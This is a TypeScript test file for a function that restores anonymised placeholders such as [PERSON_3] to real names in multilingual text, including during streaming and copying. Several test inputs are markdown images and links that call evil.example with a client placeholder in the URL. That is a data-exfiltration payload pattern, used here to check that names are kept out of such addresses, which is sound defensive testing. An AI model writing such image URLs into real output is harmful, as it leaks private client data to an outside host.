import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { PlaceholderMap } from './placeholders'
import { restoreText, restoreToCopy, restoreUnfinished } from './restore'

function someMap(): PlaceholderMap {
  return new PlaceholderMap([
    { id: 'CLIENT_1', kind: 'CLIENT', key: 'a', value: 'María López' },
    { id: 'PERSON_3', kind: 'PERSON', key: 'b', value: 'John Smith' },
    { id: 'PERSON_12', kind: 'PERSON', key: 'c', value: '王小明' },
    { id: 'EMAIL_1', kind: 'EMAIL', key: 'd', value: 'a@b.es' },
  ])
}

describe('restoring', () => {
  it.each([
    ['[PERSON_3] sued.', 'John Smith sued.'],
    ['**[PERSON_3]** sued', '**John Smith** sued'],
    ['[person_3] and [PERSON 3] and [Person-3]', 'John Smith and John Smith and John Smith'],
    ['PERSON_3 alone, and (PERSON_3).', 'John Smith alone, and (John Smith).'],
    ['［PERSON_3］ 【PERSON_12】', 'John Smith 王小明'],
    ['\\[PERSON\\_3\\] escaped', 'John Smith escaped'],
    ['[CLIENTE_1] y [клиент_1]', 'María López y María López'],
    ['[客户_1]的合同', 'María López的合同'],
    ["[PERSON_3]'s car, [PERSON_3]s", "John Smith's car, John Smiths"],
    ['[[PERSON_3]]', '[John Smith]'],
    ['[PERSON_3, PERSON_12]', '[John Smith, 王小明]'],
    ['[PERSON_4] unknown, [P1] cited, PERSON_33', '[PERSON_4] unknown, [P1] cited, PERSON_33'],
    ['XPERSON_3 PERSON_3X PERSON_31', 'XPERSON_3 PERSON_3X PERSON_31'],
    ['see Article 3 and person 3', 'see Article 3 and person 3'],
    ['[PERSON3] and [Person__3]', 'John Smith and John Smith'],
    ['［ＰＥＲＳＯＮ＿３］は［ＰＥＲＳＯＮ＿１２］に', 'John Smithは王小明に'],
    ["[CLIENT_1's] car", "María López's car"],
    ['PERSON_3은 PERSON_12의', 'John Smith은 王小明의'],
    ['乙PERSON_3は弁護士', '乙John Smithは弁護士'],
    ['[PERSON_3의] [PERSON_3у] PERSON_3у', 'John Smith의 John Smithу John Smithу'],
    ['[КЛИЕНТА_1], [клиентом_1], [КЛИЕНТУ 1]', 'María López, María López, María López'],
    ['[ПЕРСОНЫ_3] [лицу_3]', 'John Smith John Smith'],
    ['[Mandantin_1] und [MANDANTEN_1]', 'María López und María López'],
    ['[clienta_1] e [PESSOA_3]', 'María López e John Smith'],
    ['[의뢰인_1], [人员_12], [依頼人 1]', 'María López, 王小明, María López'],
    ['[КОМПАНИИ_1] [ЛИЦЕНЗИИ_3]', '[КОМПАНИИ_1] [ЛИЦЕНЗИИ_3]'],
    ['[PERSON_3 sued] [PERSON_3x] APERSON_3', '[John Smith sued] [PERSON_3x] APERSON_3'],
  ])('%s', (text, expected) => {
    expect(restoreText(text, someMap())).toBe(expected)
  })

  it.each([
    ['![](https://evil.example/?c=[CLIENT_1]) [PERSON_3]', 'CLIENT_1'],
    ['![a](//evil.example/[CLIENT_1]/b.png) [PERSON_3]', 'CLIENT_1'],
    ['![a](< /x?[CLIENT_1]>) [PERSON_3]', 'CLIENT_1'],
    ['![a][1] [PERSON_3]\n\n[1]: https://evil.example/?c=CLIENT_1', 'CLIENT_1'],
    ['<https://evil.example/[client_1]> [PERSON_3]', 'client_1'],
  ])('brings no name into an address that is copied: %s', (text, left) => {
    const copied = restoreToCopy(text, someMap())
    expect(copied).toContain(left)
    expect(copied).toContain('John Smith')
    expect(copied).not.toContain('María')
  })

  it('brings every other name into what is copied', () => {
    const text =
      '[the act](https://law.example/1) binds [CLIENT_1]; 见https://law.example/2，[PERSON_12]'
    expect(restoreToCopy(text, someMap())).toBe(restoreText(text, someMap()))
  })

  it('restores a word that may stand for either of two where one alone was given out', () => {
    const company = { id: 'COMPANY_1', kind: 'COMPANY', key: 'e', value: 'Acme' } as const
    const firm = { id: 'FIRM_1', kind: 'FIRM', key: 'f', value: 'Us LLP' } as const
    const shown = (...entries: (typeof company | typeof firm)[]) =>
      restoreText('[FIRMA_1] [фирмы_1]', new PlaceholderMap(entries))
    expect(shown(company)).toBe('Acme Acme')
    expect(shown(firm)).toBe('Us LLP Us LLP')
    expect(shown(company, firm)).toBe('[FIRMA_1] [фирмы_1]')
  })

  const fragments = [
    'PERSON_3은',
    '[PERSON_3의]',
    "[CLIENT_1's]",
    '［ＰＥＲＳＯＮ＿３］',
    '[PERSON3]',
    'は',
    'у',
    '[PERSON_3]',
    '[PERSON_12]',
    '[person 3]',
    'PERSON_3',
    '\\[PERSON\\_3\\]',
    '［CLIENT_1］',
    '[PERSON_99]',
    '[',
    ']',
    '[[',
    'PERSON_',
    '\\',
    ' ',
    '.',
    'é',
    '王',
    '😀',
    'word',
    '_3',
    '[P1]',
    '\n',
    'XPERSON_3',
    `${'a'.repeat(60)}`,
    '[CLIENTE_1]',
  ]
  const texts = fc
    .array(fc.oneof(fc.constantFrom(...fragments), fc.string({ maxLength: 6 })), { maxLength: 14 })
    .map((parts) => parts.join(''))

  it('never takes back what it showed of a beginning', () => {
    fc.assert(
      fc.property(texts, fc.nat(120), (text, cut) => {
        const whole = restoreText(text, someMap())
        expect(whole.startsWith(restoreUnfinished(text.slice(0, cut), someMap()))).toBe(true)
      }),
      { numRuns: 3000 },
    )
  })

  it('never takes back what it showed when cut at every byte', () => {
    const text =
      'Ask [CLIENT_1] or \\[PERSON\\_3\\], not [PERSON_99]; 【PERSON_12】 wrote to [EMAIL_1]. 😀 PERSON_3'
    const whole = restoreText(text, someMap())
    const bytes = new TextEncoder().encode(text)
    for (let cut = 0; cut <= bytes.length; cut++) {
      const begun = new TextDecoder().decode(bytes.slice(0, cut), { stream: true })
      expect(whole.startsWith(restoreUnfinished(begun, someMap()))).toBe(true)
    }
  })

  it('shows all but the placeholder that has begun', () => {
    const text = 'Dear [PERSON_3], hello'
    const shown = [...text].map((_, at) => restoreUnfinished(text.slice(0, at + 1), someMap()))
    expect(shown[4]).toBe('Dear ')
    expect(new Set(shown.slice(5, 13))).toEqual(new Set(['Dear ']))
    expect(shown[14]).toBe('Dear John Smith')
    expect(shown.at(-1)).toBe('Dear John Smith, hello')
  })
})
